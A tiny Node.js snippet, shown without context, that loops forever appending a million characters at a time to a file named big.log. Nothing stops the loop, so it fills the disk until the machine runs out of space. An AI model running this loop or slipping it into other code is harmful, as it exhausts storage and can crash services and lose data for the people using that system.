const fs = require("fs");
while (true) {
  fs.appendFileSync("big.log", "x".repeat(1e6));
}
